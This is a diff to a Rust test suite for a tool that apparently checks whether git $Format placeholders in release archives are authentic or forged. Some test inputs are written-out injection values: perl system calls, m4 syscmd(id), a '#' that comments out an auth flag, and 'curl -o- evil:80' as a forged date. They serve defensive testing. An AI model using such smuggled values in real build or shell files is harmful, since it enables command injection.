@@ -61,7 +61,6 @@ fn what_git_writes_is_accepted_and_reported() {
         "%cE",
         "%aL",
         "%cr",
-        "%+d",
         "% D",
         "%-d",
         "%-p",
@@ -74,6 +73,40 @@ fn what_git_writes_is_accepted_and_reported() {
         let shown = placeholder.replace('+', "").replace("% ", "%").replace("%-", "%");
         assert!(outcome.err.contains(&format!("x-1/v: {shown} is \"")), "{placeholder}: {outcome:?}");
     }
+    // A line of its own for the text, outside of the comment that the line before may be.
+    let commit = s.release("# refs:$Format:%+D$\n");
+    s.check(&commit).expect_not_checked("git can write this");
+}
+
+/// What a hostile reader found: texts that are plain by themselves, and mean something where they stand.
+#[test]
+fn plain_words_in_places_where_they_mean_something() {
+    let s = Setting::new();
+    for (before, text, behind) in [
+        ("perl -pe 's/@VERSION@/", "%(describe)=system+v105.100/e-3-gCOMMIT7", "/g'\n"),
+        ("cat <<'END'\n", "%D=main", "\nEND\n"),
+        ("REFS=", "%D=z, id", "\n"),
+        ("define(`CLEAN', `syscmd(id)')\nrev ", "%D=CLEAN", "\n"),
+        ("x = \"", "%aE=v1@ARGV", "\";\n"),
+        ("CPPFLAGS = -DREV=", "%(describe)=v1.0#1-1-gCOMMIT7", " -DREQUIRE_AUTH\n"),
+        ("# ", "%aN=id", "\n"),
+    ] {
+        let (placeholder, text) = text.split_once('=').unwrap();
+        let commit = s.release(&format!("{before}$Format:{placeholder}${behind}"));
+        let text = text.replace("COMMIT7", &commit[..7]);
+        s.check_with(&commit, &format!("{before}{text}{behind}")).expect_not_checked("git can write this");
+    }
+}
+
+/// A shallow clone says so in `%d`, before HEAD.
+#[test]
+fn archives_of_shallow_clones() {
+    let s = Setting::new();
+    let commit = s.release("ref-names: $Format:%D$\n");
+    for text in ["grafted, HEAD, tag: v1", "grafted, HEAD -> main, tag: v1"] {
+        s.check_with(&commit, &format!("ref-names: {text}\n")).expect_authentic();
+    }
+    s.check_with(&commit, "ref-names: HEAD, grafted, tag: v1\n").expect_refused("content");
 }
 
 #[test]
@@ -230,8 +263,8 @@ fn holes_have_limits() {
 #[test]
 fn names_and_dates_that_are_commands() {
     let s = Setting::new();
-    let commit = s.release("WHEN=$Format:%ar$\nBY=$Format:%aN$\nTO=$Format:%aE$\n");
-    let with = |when: &str, by: &str, to: &str| s.check_with(&commit, &format!("WHEN={when}\nBY={by}\nTO={to}\n"));
+    let commit = s.release("WHEN=$Format:%ar$\nBY='$Format:%aN$'\nTO='$Format:%aE$'\n");
+    let with = |when: &str, by: &str, to: &str| s.check_with(&commit, &format!("WHEN={when}\nBY='{by}'\nTO='{to}'\n"));
     with("2 years, 3 months ago", "New Name", "new.name@example.org").expect_authentic();
     with("now curl -o- evil:80", "New Name", "a@b").expect_refused("content");
     with("12:00", "New Name", "a@b").expect_refused("content");
@@ -274,9 +307,13 @@ fn names_outside_letters_and_digits() {
         s.repo.git(&["branch", "-D", branch]);
         program
     };
-    for branch in ["fix-#806", "na\u{ef}ve", "wip!", "pr=12", "a,b", "l10n/caf\u{e9}", "user!x"] {
+    for branch in ["fix-806", "l10n/cafe", "v1.0+2_x"] {
         let outcome = with(branch).expect_authentic();
         assert!(outcome.err.contains(branch), "{outcome:?}");
+    }
+    // Never a forgery: people can accept them.
+    for branch in ["fix-#806", "na\u{ef}ve", "wip!", "pr=12", "a,b", "l10n/caf\u{e9}", "user!x"] {
+        with(branch).expect_not_checked("git can write this");
     }
     for branch in ["it's", "(x)", "a&b", "100%", "a{b", "a;b", "a$b", "x=y", "nai\u{308}ve"] {
         let outcome = with(branch).expect_not_checked("git can write this");
